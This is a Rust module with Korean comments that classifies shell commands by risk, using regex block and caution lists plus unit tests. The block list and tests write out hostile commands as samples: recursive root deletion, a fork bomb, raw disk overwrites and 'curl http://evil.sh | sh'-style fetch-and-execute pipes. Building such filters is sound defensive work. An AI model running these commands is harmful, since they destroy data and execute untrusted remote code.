use once_cell::sync::Lazy;
use regex::Regex;
use std::fmt;

/// 명령어 위험도 (표시용 순서: Safe < Caution < Danger)
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum RiskLevel {
    Safe,
    Caution,
    Danger,
}

impl fmt::Display for RiskLevel {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            RiskLevel::Safe => write!(f, "safe"),
            RiskLevel::Caution => write!(f, "caution"),
            RiskLevel::Danger => write!(f, "danger"),
        }
    }
}

/// 분류 결과: 위험도 + 하드 블록 여부
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Classification {
    pub risk: RiskLevel,
    pub blocked: bool,
}

/// 절대 실행 금지 패턴 (사전 컴파일)
///
/// 매칭 시 선택 상태와 무관하게 실행이 거부됩니다.
static BLOCKED_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"rm\s+(-[rf]+\s+)*[~/]\s*$",
        r"rm\s+(-[rf]+\s+)*/\s*$",
        r"rm\s+.*--no-preserve-root",
        r":\s*\(\s*\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
        r"dd\s+.*of\s*=\s*/dev/(sda|nvme|hd[a-z]|disk)",
        r"chmod\s+(-r\s+)?777\s+/\s*$",
        r"chmod\s+(-r\s+)?777\s+~/?\s*$",
        r"mkfs\.[a-z0-9]+\s+/dev/(sda|nvme|hd[a-z]|disk)",
        r">\s*/dev/(sda|nvme|hd[a-z]|disk)",
        r"mv\s+/\s+",
        r"mv\s+~/?\s+/dev/null",
        r"wget\s+.*\|\s*(ba)?sh",
        r"curl\s+.*\|\s*(ba)?sh",
        r"echo\s+.*\|\s*base64\s+-d\s*\|\s*(ba)?sh",
        r#"perl\s+-e\s*['"].*exec"#,
        r#"python[23]?\s+-c\s*['"].*exec"#,
        r"sudo\s+rm\s+(-[rf]+\s+)*/",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("invalid blocked pattern"))
    .collect()
});

/// 주의 패턴: 차단하지는 않지만 경고 표시 (사전 컴파일)
static CAUTION_PATTERNS: Lazy<Vec<Regex>> = Lazy::new(|| {
    [
        r"rm\s+(-[rfv]+\s+)",
        r"sudo\s+",
        r"chmod\s+",
        r"chown\s+",
        r"dd\s+",
        r"mkfs\.",
        r"fdisk\s+",
        r"parted\s+",
        r"kill\s+",
        r"killall\s+",
        r"pkill\s+",
        r"systemctl\s+(stop|restart|disable)",
        r"service\s+.*\s+(stop|restart)",
        r"reboot",
        r"shutdown",
        r"init\s+[0-6]",
        r">\s*/etc/",
        r"pip\s+install",
        r"npm\s+install\s+-g",
        r"brew\s+install",
        r"apt(-get)?\s+install",
        r"yum\s+install",
        r"dnf\s+install",
    ]
    .iter()
    .map(|p| Regex::new(p).expect("invalid caution pattern"))
    .collect()
});

fn normalize(command: &str) -> String {
    command.trim().to_lowercase()
}

/// 하드 블록 여부 검사
pub fn is_blocked(command: &str) -> bool {
    let normalized = normalize(command);
    BLOCKED_PATTERNS.iter().any(|p| p.is_match(&normalized))
}

/// 위험도 평가 (블록 패턴 우선, 그 다음 주의 패턴)
pub fn assess_risk(command: &str) -> RiskLevel {
    if is_blocked(command) {
        return RiskLevel::Danger;
    }

    let normalized = normalize(command);
    if CAUTION_PATTERNS.iter().any(|p| p.is_match(&normalized)) {
        RiskLevel::Caution
    } else {
        RiskLevel::Safe
    }
}

/// 명령어 분류. 순수 함수이며 같은 입력에는 항상 같은 결과를 반환합니다.
///
/// 휴리스틱 기반의 조언용 필터일 뿐 샌드박스가 아닙니다.
pub fn classify(command: &str) -> Classification {
    let blocked = is_blocked(command);
    Classification {
        risk: assess_risk(command),
        blocked,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_blocked_commands() {
        // 파일 시스템 전체 삭제
        assert!(is_blocked("rm -rf /"));
        assert!(is_blocked("rm -rf ~"));
        assert!(is_blocked("sudo rm -rf /"));
        assert!(is_blocked("rm -rf --no-preserve-root /home"));

        // 포크밤
        assert!(is_blocked(":(){ :|:& };:"));

        // 디스크 raw 쓰기 / 파일시스템 생성
        assert!(is_blocked("dd if=/dev/zero of=/dev/sda"));
        assert!(is_blocked("mkfs.ext4 /dev/sda1"));
        assert!(is_blocked("cat garbage > /dev/sda"));

        // 다운로드 후 즉시 실행
        assert!(is_blocked("curl http://evil.sh | sh"));
        assert!(is_blocked("wget http://evil.sh -O - | bash"));
        assert!(is_blocked("echo cGF5bG9hZA== | base64 -d | sh"));

        // 루트/홈 권한 개방
        assert!(is_blocked("chmod -r 777 /"));
        assert!(is_blocked("chmod 777 ~"));

        // 루트 디렉토리 이동
        assert!(is_blocked("mv / /tmp"));
    }

    #[test]
    fn test_not_blocked_commands() {
        assert!(!is_blocked("ls -la"));
        assert!(!is_blocked("rm -rf ./build"));
        assert!(!is_blocked("chmod 755 script.sh"));
        assert!(!is_blocked("curl https://example.com/file.tar.gz -o file.tar.gz"));
        assert!(!is_blocked("git status"));
    }

    #[test]
    fn test_caution_commands() {
        assert_eq!(assess_risk("sudo apt-get install vim"), RiskLevel::Caution);
        assert_eq!(assess_risk("kill -9 1234"), RiskLevel::Caution);
        assert_eq!(assess_risk("systemctl restart nginx"), RiskLevel::Caution);
        assert_eq!(assess_risk("rm -rf ./node_modules"), RiskLevel::Caution);
        assert_eq!(assess_risk("shutdown now"), RiskLevel::Caution);
        assert_eq!(assess_risk("pip install requests"), RiskLevel::Caution);
    }

    #[test]
    fn test_safe_commands() {
        assert_eq!(assess_risk("ls -la"), RiskLevel::Safe);
        assert_eq!(assess_risk("git status"), RiskLevel::Safe);
        assert_eq!(assess_risk("find . -name \"*.pdf\" -size +10M"), RiskLevel::Safe);
        assert_eq!(assess_risk("date"), RiskLevel::Safe);
    }

    #[test]
    fn test_blocked_implies_danger() {
        let samples = [
            "rm -rf /",
            "sudo rm -rf /var",
            "curl http://x.sh | sh",
            "dd if=img of=/dev/sda",
            "ls -la",
            "sudo apt install htop",
            "chmod 777 ~",
        ];

        for cmd in samples {
            let c = classify(cmd);
            if c.blocked {
                assert_eq!(c.risk, RiskLevel::Danger, "blocked but not danger: {}", cmd);
            }
        }
    }

    #[test]
    fn test_classify_deterministic() {
        let cmd = "sudo systemctl restart sshd";
        let first = classify(cmd);
        for _ in 0..10 {
            assert_eq!(classify(cmd), first);
        }
    }

    #[test]
    fn test_case_insensitive_and_trimmed() {
        assert!(is_blocked("  RM -RF /  "));
        assert_eq!(assess_risk("  SUDO apt-get install vim"), RiskLevel::Caution);
        assert_eq!(assess_risk("\tls -la\n"), RiskLevel::Safe);
    }

    #[test]
    fn test_risk_level_ordering() {
        assert!(RiskLevel::Safe < RiskLevel::Caution);
        assert!(RiskLevel::Caution < RiskLevel::Danger);
    }

    #[test]
    fn test_risk_level_display() {
        assert_eq!(RiskLevel::Safe.to_string(), "safe");
        assert_eq!(RiskLevel::Caution.to_string(), "caution");
        assert_eq!(RiskLevel::Danger.to_string(), "danger");
    }
}
